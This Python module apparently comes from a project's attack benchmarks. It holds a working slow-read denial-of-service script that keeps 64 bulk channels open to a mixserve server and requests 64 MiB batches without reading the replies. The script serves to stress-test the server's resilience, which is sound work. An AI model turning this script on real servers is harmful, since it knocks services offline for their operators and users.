"""64 bulk channels of one client that take no reply, and ask for batches of 64 MiB."""

import select
import socket
import time

import grpc

from benchmarks.attacks.mixtures import ROW_BYTES
from benchmarks.attacks.raw import STREAM_BATCHES, stream_request
from mixserve_client.wire import methods
from mixserve_client.wire.bulk import HELLO, WELCOME, encode_bulk_request
from mixserve_client.wire.server import decode_server

_CHANNELS = 64
_ROWS = (64 << 20) // ROW_BYTES


def attack(address: str) -> None:
    """Keep that many open, whatever the server ends."""
    opened = list[socket.socket]()
    with grpc.insecure_channel(address) as channel:
        while True:
            opened = [one for one in opened if _is_open(one)]
            while len(opened) < _CHANNELS:
                try:
                    opened.append(_open(channel, address))
                except (OSError, grpc.RpcError, ValueError):
                    break
            time.sleep(0.2)


def _open(channel: grpc.Channel, address: str) -> socket.socket:
    offer = decode_server(channel.unary_unary(methods.GET_SERVER)(b"", timeout=5)).bulk
    if offer is None:
        raise ValueError("no more channels")
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    made.settimeout(5)
    made.connect((address.rpartition(":")[0], offer.port))
    made.sendall(HELLO + offer.token)
    if made.recv(len(WELCOME)) != WELCOME:
        raise ConnectionError("it was not let in")
    made.sendall(encode_bulk_request(1, STREAM_BATCHES, stream_request(_ROWS, 100)))
    return made


def _is_open(connection: socket.socket) -> bool:
    """Whether the server has not ended it; what it sent before stays where it is."""
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return not poll.poll(0)
